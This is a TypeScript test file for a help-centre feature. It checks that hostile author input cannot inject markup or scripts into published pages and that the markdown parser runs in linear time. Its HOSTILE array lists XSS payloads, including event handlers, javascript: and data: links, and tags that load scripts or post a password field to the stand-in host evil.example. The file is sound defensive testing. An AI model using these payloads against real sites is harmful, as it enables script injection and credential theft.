import { afterAll, beforeAll, expect, test } from "vitest";
import type { Workspace } from "../../test/factories.ts";
import { createTestApp, type TestApp } from "../../test/harness.ts";
import { parseHtml, walkHtml } from "../language/index.ts";

let t: TestApp;
let mine: Workspace;
let base: string;
beforeAll(async () => {
  t = await createTestApp();
  mine = await t.workspace();
  base = new URL((await call("updateHelpCentre", { is_on: true })).body.data.url).pathname;
});
afterAll(() => t.close());

const call = (operation: string, body: object) =>
  t.call(mine.token, operation, { project_uid: mine.projectUid, ...body });

const HOSTILE = [
  "<script>alert(1)</script>",
  "</article></main></body><script src=https://evil.example/x.js></script>",
  '<img src=x onerror="alert(1)"> <svg onload=alert(1)><script>alert(1)</script></svg>',
  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>",
  '<iframe src="https://evil.example"></iframe><object data=x></object><base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password></form><meta http-equiv=refresh content="0;url=https://evil.example">',
  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](vbscript:x)",
  "[e](data:text/html,<script>alert(1)</script>) ![f](data:image/svg+xml,<svg/onload=alert(1)>)",
  '![g](javascript:alert(1)) ![h](http://evil.example/i.png) ![i](https://ok.example/i.png"onerror="alert(1))',
  '[k](https://ok.example/"onmouseover="alert(1)) [l](https://ok.example/\'><script>alert(1)</script>)',
  "**<b onclick=alert(1)>m</b>** `<script>n</script>` *<i>o</i>*",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "# </h2><script>alert(1)</script>\n\n> <script>q</script>\n\n| <script>r</script> | b |\n| --- | --- |\n| </td><script>s</script> | t |",
  "&lt;script&gt;u&lt;/script&gt; &#60;script&#62;",
];
const ELEMENTS =
  "#root html head meta title link style script body a header form input button main section nav ol li article h1 h2 h3 p br strong em code pre blockquote hr ul div table thead tbody tr th td img time footer";

/** Where an attribute may lead. */
const ALLOWED: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/|mailto:|#|\/help\/)/,
  src: /^https:\/\/ok\.example\//,
  action: /^\/help\//,
};
const ANY = /^/;
const FORBIDDEN = /^(on|style$|srcdoc$|http-equiv$|formaction$)/;

test("nothing that an author writes becomes markup, runs, styles, loads or leaves the page", async () => {
  const title = '</title><script>alert("t")</script>';
  const created = await call("createHelpArticle", {
    language: "en",
    title,
    description: '"><script>alert("d")</script>',
    body: HOSTILE.join("\n\n"),
    slug: "hostile",
  });
  expect(created.status).toBe(200);
  const collection = {
    texts: [{ language: "en", name: "</h2><script>c</script>", description: "<svg onload=a>" }],
  };
  const { id } = (await call("createHelpCollection", collection)).body.data;
  await call("updateHelpArticle", { article_id: created.body.data.id, collection_id: id });
  await call("updateHelpCentre", { title: "</title><script>s</script>", description: "<script>e</script>" });
  expect(
    (await call("publishHelpArticle", { article_id: created.body.data.id, language: "en" })).status,
  ).toBe(200);
  const search = `/en/search?q=${encodeURIComponent('"><script>alert(1)</script> hostile onclick')}`;
  for (const path of ["/en/articles/hostile", "/en", search, "/en/'\"><script>alert(1)</script>"]) {
    const { body, headers } = await t.running.server.inject({ url: encodeURI(decodeURI(`${base}${path}`)) });
    expect(headers["content-security-policy"]).toMatch(/^default-src 'none'/);
    const problems: string[] = [];
    walkHtml(parseHtml(body), ({ name, attributes }) => {
      if (!ELEMENTS.split(" ").includes(name)) problems.push(name);
      if (name === "script" && attributes.type !== "application/ld+json") problems.push("a script that runs");
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!(ALLOWED[attribute] ?? ANY).test(value) || FORBIDDEN.test(attribute)) {
          problems.push(`${name} ${attribute}=${value}`);
        }
      }
    });
    expect(problems).toEqual([]);
    for (const [, data = ""] of body.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs))
      expect(JSON.parse(data)).toHaveProperty("@type");
  }
});

test("the worst that fits into an article is read in linear time", async () => {
  const { id } = (await call("createHelpArticle", { language: "en", title: "Slow", body: "x" })).body.data;
  for (const part of ["*a ", "![", "- \u2028", "**a", "](https://a.b/"]) {
    const body = part.repeat(Math.floor(99_000 / part.length));
    await call("saveHelpTranslation", { article_id: id, language: "en", body });
    expect((await call("publishHelpArticle", { article_id: id, language: "en" })).status).toBe(200);
    expect((await t.running.server.inject({ url: `${base}/en/articles/slow` })).statusCode).toBe(200);
  }
});
